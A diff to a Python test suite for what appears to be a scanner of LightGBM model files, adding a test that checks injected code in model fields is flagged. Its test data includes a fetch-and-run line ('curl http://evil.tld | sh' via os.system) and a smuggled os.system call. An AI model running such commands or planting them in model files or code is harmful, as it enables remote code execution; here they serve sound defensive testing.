@@ -8,6 +8,7 @@ from lightgbm import LGBMClassifier
 
 from modelward.formats.facts import Malformed, Overflow
 from modelward.formats.lightgbm import problems
+from modelward.formats.metadata_code import MetadataCode
 from modelward.formats.source import BytesSource
 
 SMALL = (
@@ -73,3 +74,15 @@ def test_other_text_is_no_model(text: str) -> None:
 def test_changed_models_raise_nothing(at: int, junk: bytes) -> None:
     data = SMALL.encode()
     found(data[: at % len(data)] + junk + data[at % len(data) :])
+
+
+@pytest.mark.parametrize(
+    ("field", "line"),
+    [
+        ("feature_names=", "metadata=os.system('curl http://evil.tld | sh')"),
+        ("[boosting: gbdt]", "[objective: __import__('os').system('id')]"),
+    ],
+)
+def test_program_in_a_field_is_noticed(field: str, line: str) -> None:
+    result = found(SMALL.replace(field, f"{line}\n{field}", 1))
+    assert [type(fact) for fact in result or []] == [MetadataCode]
